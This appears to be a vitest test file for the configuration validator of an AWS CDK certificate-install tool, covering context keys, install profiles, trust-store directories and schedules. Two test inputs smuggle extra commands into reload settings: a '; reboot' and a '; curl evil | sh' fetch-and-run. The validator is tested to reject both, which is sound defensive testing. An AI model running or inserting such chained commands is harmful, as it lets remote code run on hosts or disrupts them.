import { readFileSync } from 'node:fs';
import * as path from 'node:path';
import { App } from 'aws-cdk-lib';
import { describe, expect, it } from 'vitest';
import { ConfigError, DEFAULT_CONFIG, installProfilesOf, loadConfig } from '../../lib/config.js';
import { DEFAULT_HOST_INSTALL, trustStoreDirectoryOf } from '../../lambda/shared/install-parameters.js';

const load = (context: Record<string, unknown>) => loadConfig(new App({ context }).node);

describe('configuration', () => {
  it('reads the accounts and Regions mappings may name, only with an organization', () => {
    const organization = { organizationId: 'o-a1b2c3d4e5' };
    expect(
      load({
        ...organization,
        targetAccounts: '444455556666, 777788889999',
        targetRegions: ['eu-central-1'],
      }),
    ).toMatchObject({ targetAccounts: ['444455556666', '777788889999'], targetRegions: ['eu-central-1'] });
    expect(load(organization)).toMatchObject({ targetAccounts: [], targetRegions: [] });
    expect(() => load({ ...organization, targetAccounts: '4444' })).toThrow(
      'targetAccounts has an entry that is not one of 12-digit account ids: "4444"',
    );
    expect(() => load({ ...organization, targetRegions: 'Frankfurt' })).toThrow(/targetRegions has an entry/);
    expect(() => load({ targetRegions: 'eu-central-1' })).toThrow(
      'targetRegions needs organizationId: hosts in other accounts and Regions are reached through the member stack, which trusts the organization',
    );
    expect(() => load({ memberCertificateAlerts: 'false' })).toThrow(
      'memberCertificateAlerts applies only to the member stack: set organizationId too, or leave memberCertificateAlerts out',
    );
    expect(load({ ...organization, memberCertificateAlerts: 'false' })).toMatchObject({
      memberCertificateAlerts: false,
    });
    expect(() => load({ ...organization, installDocumentName: 'My-Install' })).toThrow(
      /installDocumentName cannot be set with organizationId/,
    );
  });

  it.each([
    ['alertEmail', 'alertEmails'],
    ['installcertdirectory', 'installCertDirectory'],
    ['convergenceShedule', 'convergenceSchedule'],
    ['alert-emails', 'alertEmails'],
  ])('stops the synth at an unknown context key %s, naming the one meant', (key, meant) => {
    expect(() => load({ [key]: 'x' })).toThrow(`unknown context key ${key} (did you mean ${meant}?)`);
  });

  it("lets the CDK's own context keys pass, and says nothing of a meaning for a key far from any", () => {
    expect(() =>
      load({
        '@aws-cdk/core:checkSecretUsage': true,
        'aws:cdk:bundling-stacks': [],
        'availability-zones:account=123456789012:region=eu-west-1': ['eu-west-1a'],
        'cli-telemetry': false,
        'acknowledged-issue-numbers': [],
      }),
    ).not.toThrow();
    expect(() => load({ somethingElseEntirely: 1 })).toThrow(
      /unknown context key somethingElseEntirely: nothing reads it/,
    );
  });

  it('names the setting meant by an unknown one inside a profile', () => {
    expect(() => load({ installProfiles: { web: { reloadComand: 'x' } } })).toThrow(
      'installProfiles.web has an unknown setting "reloadComand" (did you mean reloadCommand?)',
    );
  });

  it('falls back to the defaults', () => {
    expect(load({})).toEqual(DEFAULT_CONFIG);
  });

  it("writes in cdk.json the product's defaults, each a value synth accepts", () => {
    const { context } = JSON.parse(
      readFileSync(path.join(import.meta.dirname, '../../cdk.json'), 'utf8'),
    ) as {
      context: Record<string, unknown>;
    };
    const settings = Object.fromEntries(
      Object.entries(context).filter(([key]) => Object.hasOwn(DEFAULT_CONFIG, key)),
    );
    expect(Object.keys(settings).length).toBeGreaterThan(10);
    expect(load(settings)).toEqual(DEFAULT_CONFIG);
  });

  it('reads numbers and lists given on the command line as strings', () => {
    expect(
      load({
        installMaxWaitSeconds: '1800',
        logRetentionDays: '30',
        alertEmails: 'a@example.com, b@example.com',
      }),
    ).toMatchObject({
      installMaxWaitSeconds: 1800,
      logRetentionDays: 30,
      alertEmails: ['a@example.com', 'b@example.com'],
    });
  });

  it('reports every bad value at once, each with what it should be', () => {
    let error: unknown;
    try {
      load({
        tableName: 'x',
        installMaxConcurrency: '0',
        installDeliveryTimeoutSeconds: 5,
        installDocumentName: 'AWS-RunShellScript',
        alertEmails: ['not-an-address'],
      });
    } catch (caught) {
      error = caught;
    }
    expect(error).toBeInstanceOf(ConfigError);
    expect((error as ConfigError).problems).toEqual([
      'tableName must be empty, or 3–255 letters, digits, "_", "-" or "."; got "x"',
      'alertEmails has an entry that is not an email address: "not-an-address"',
      'installDocumentName must be empty, or 3–128 letters, digits, "_", "-" or ".", not starting with "AWS" or "Amazon"; got "AWS-RunShellScript"',
      'installMaxConcurrency must be a count like "10" or a percentage like "25%"; got "0"',
      'installDeliveryTimeoutSeconds must be a whole number from 30 to 2592000; got 5',
    ]);
  });

  it('accepts the SSM rollout forms AWS accepts', () => {
    expect(load({ installMaxConcurrency: '100%', installMaxErrors: '10%' })).toMatchObject({
      installMaxConcurrency: '100%',
      installMaxErrors: '10%',
    });
  });

  it('holds install settings to the install document rules', () => {
    expect(() => load({ installCertDirectory: '/etc/../root' })).toThrow(/installCertDirectory is not valid/);
    expect(() => load({ installReloadCommand: 'systemctl reload nginx; reboot' })).toThrow(
      /installReloadCommand is not valid: Run after a good install, as plain words/,
    );
    expect(load({ installReloadCommand: 'apachectl graceful', installFileGroup: 'ssl-cert' })).toMatchObject({
      installReloadCommand: 'apachectl graceful',
      installFileGroup: 'ssl-cert',
    });
  });

  it.each([
    ['installCertDirectory', '/etc/ssl/certs', '/etc/ssl/certs'],
    ['installKeyDirectory', '/etc/pki/ca-trust/source/anchors', '/etc/pki/ca-trust'],
    ['installProfiles', { apache: { certDirectory: '/etc/pki/tls/certs/app' } }, '/etc/pki/tls/certs'],
    [
      'installProfiles',
      { local: { keyDirectory: '/usr/local/share/ca-certificates' } },
      '/usr/local/share/ca-certificates',
    ],
  ])('refuses %s in a directory where hosts trust CA certificates (%j)', (key, value, trusted) => {
    expect(() => load({ [key]: value })).toThrow(
      new RegExp(`is in ${trusted}, where hosts' trust-store tooling looks for CA certificates`),
    );
  });

  it('keeps the product default directories out of every trust-store directory', () => {
    expect(trustStoreDirectoryOf(DEFAULT_HOST_INSTALL.certDirectory)).toBeUndefined();
    expect(trustStoreDirectoryOf(DEFAULT_HOST_INSTALL.keyDirectory)).toBeUndefined();
    expect(trustStoreDirectoryOf('/etc/ssl/certsmore')).toBeUndefined();
    expect(trustStoreDirectoryOf('/etc/ssl/certs')).toBe('/etc/ssl/certs');
  });

  it('makes the install* keys the profile named default, and fills the others from the product defaults', () => {
    const config = load({
      installCertDirectory: '/etc/httpd/tls',
      installProfiles: '{"haproxy": {"keyDirectory": "/etc/haproxy/private", "fileGroup": "haproxy"}}',
    });
    expect(installProfilesOf(config)).toEqual({
      default: { ...DEFAULT_HOST_INSTALL, certDirectory: '/etc/httpd/tls' },
      haproxy: { ...DEFAULT_HOST_INSTALL, keyDirectory: '/etc/haproxy/private', fileGroup: 'haproxy' },
    });
  });

  it('reports each problem of the install profiles in its own words', () => {
    let error: unknown;
    try {
      load({
        installProfiles: {
          default: {},
          'Web Servers': {},
          tomcat: { reloadCommand: 'systemctl restart tomcat; curl evil | sh', keystore: 'x' },
          java: 'pkcs12',
        },
      });
    } catch (caught) {
      error = caught;
    }
    expect(error).toBeInstanceOf(ConfigError);
    expect((error as ConfigError).problems).toEqual([
      'installProfiles may not define "default": that profile is the install* keys',
      expect.stringMatching(/^installProfiles has a profile name that is not valid \(.*\): "Web Servers"$/),
      expect.stringMatching(/^installProfiles\.tomcat\.reloadCommand is not valid: Run after a good install/),
      expect.stringMatching(
        /^installProfiles\.tomcat has an unknown setting "keystore" \(known: certDirectory, /,
      ),
      'installProfiles.java must be an object of settings; got "pkcs12"',
    ]);
    expect(() => load({ installProfiles: '{not json' })).toThrow(
      /installProfiles must be a JSON object of profiles; got "\{not json"/,
    );
  });

  it('takes formats as a list or a string, and an endpoint with a real port and an SNI name only beside it', () => {
    const config = load({
      installFormats: ['pem', 'pkcs12'],
      installVerifyEndpoint: '127.0.0.1:8443',
      installProfiles: {
        tomcat: {
          formats: ['pkcs12'],
          pkcs12Encryption: 'legacy-3des',
          verifyEndpoint: '127.0.0.1:8443',
          verifySeconds: 90,
        },
      },
    });
    expect(installProfilesOf(config)).toMatchObject({
      default: { formats: 'pem,pkcs12', verifyEndpoint: '127.0.0.1:8443' },
      tomcat: { formats: 'pkcs12', pkcs12Encryption: 'legacy-3des', verifySeconds: '90' },
    });
    let error: unknown;
    try {
      load({
        installFormats: 'pem,der',
        installProfiles: {
          web: { verifyEndpoint: '127.0.0.1:0' },
          java: { verifyServerName: 'app.example.com' },
        },
      });
    } catch (caught) {
      error = caught;
    }
    expect((error as ConfigError).problems).toEqual([
      expect.stringMatching(/^installFormats is not valid: What to install besides/),
      'installProfiles.web.verifyEndpoint has no valid port (1-65535): "127.0.0.1:0"',
      'installProfiles.java names a verifyServerName but no verifyEndpoint to ask it of',
    ]);
    expect(() => load({ installVerifyServerName: 'app.example.com' })).toThrow(
      /the install\* keys names a verifyServerName but no verifyEndpoint/,
    );
  });

  it('needs at least one valid instance tag key', () => {
    expect(load({ instanceTagKeys: 'env, team' }).instanceTagKeys).toEqual(['env', 'team']);
    expect(() => load({ instanceTagKeys: [] })).toThrow(/instanceTagKeys must name at least one tag key/);
    expect(() => load({ instanceTagKeys: ['aws:foo'] })).toThrow(
      /instanceTagKeys has a tag key that is not valid/,
    );
  });

  it('checks the expiry settings', () => {
    expect(
      load({
        expiryScanSchedule: 'rate(12 hours)',
        securityHubRegion: 'us-east-1',
        expiryThresholdDays: '60',
      }),
    ).toMatchObject({
      expiryScanSchedule: 'rate(12 hours)',
      securityHubRegion: 'us-east-1',
      expiryThresholdDays: 60,
    });
    expect(() => load({ expiryScanSchedule: 'daily' })).toThrow(
      /expiryScanSchedule must be an EventBridge schedule/,
    );
    expect(() => load({ securityHubRegion: 'Frankfurt' })).toThrow(/securityHubRegion must be a Region name/);
    expect(() => load({ expiryThresholdDays: 0 })).toThrow(
      /expiryThresholdDays must be a whole number from 1 to 397/,
    );
  });

  it('refuses an API throttle that is not a positive whole number', () => {
    expect(() => load({ apiThrottleRatePerSecond: 0 })).toThrow(
      /apiThrottleRatePerSecond must be a whole number from 1 to 10000/,
    );
    expect(() => load({ apiThrottleBurst: 'many' })).toThrow(/apiThrottleBurst must be a whole number/);
    expect(load({ apiThrottleRatePerSecond: '3', apiThrottleBurst: '5' })).toMatchObject({
      apiThrottleRatePerSecond: 3,
      apiThrottleBurst: 5,
    });
  });

  it('refuses a log retention CloudWatch does not offer', () => {
    expect(() => load({ logRetentionDays: 8 })).toThrow(/logRetentionDays must be one of/);
  });
});

describe('the README recipes', () => {
  it('are each a valid install profile', () => {
    const readme = readFileSync(path.join(__dirname, '../../README.md'), 'utf8');
    const recipes = readme.slice(readme.indexOf('#### Recipes'), readme.indexOf('### The secret'));
    const profiles = Object.fromEntries(
      [...recipes.matchAll(/```json\n([\s\S]*?)```/g)].map(
        (block) => Object.entries(JSON.parse(`{${block[1]}}`) as Record<string, unknown>)[0]!,
      ),
    );
    expect(Object.keys(profiles)).toEqual(['nginx', 'apache', 'haproxy', 'tomcat', 'files']);
    expect(installProfilesOf(load({ installProfiles: profiles }))).toMatchObject({
      haproxy: { formats: 'combined' },
      tomcat: { formats: 'pkcs12', verifySeconds: '90' },
    });
  });

  it('for Windows hosts are valid install profiles too', () => {
    const readme = readFileSync(path.join(__dirname, '../../README.md'), 'utf8');
    const section = readme.slice(
      readme.indexOf('### Windows hosts'),
      readme.indexOf('### Letting a host read'),
    );
    const [block] = [...section.matchAll(/```json\n([\s\S]*?)```/g)].map((match) => match[1]!);
    const { installProfiles } = JSON.parse(`{${block}}`) as { installProfiles: Record<string, unknown> };
    expect(installProfilesOf(load({ installProfiles }))).toMatchObject({
      iis: { iisBindings: 'Default Web Site:443:www.example.com', keyReaders: 'IIS AppPool\\DefaultAppPool' },
      'api-service': { httpSysBindings: 'ipport=0.0.0.0:8443', keyReaders: 'NT SERVICE\\ApiService' },
    });
  });
});
